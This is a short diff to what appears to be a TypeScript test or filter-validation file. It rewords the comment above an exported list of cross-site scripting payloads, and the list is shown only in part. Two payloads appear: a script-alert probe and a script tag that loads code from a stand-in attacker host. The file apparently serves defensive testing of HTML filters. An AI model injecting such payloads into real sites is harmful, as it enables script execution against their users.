@@ -1,4 +1,4 @@
-/** Ways in which script has been smuggled past filters: the well-known list, and what has been found since. */
+/** Inputs that have got scripts past HTML filters: the well-known list, and what was found since. */
 export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
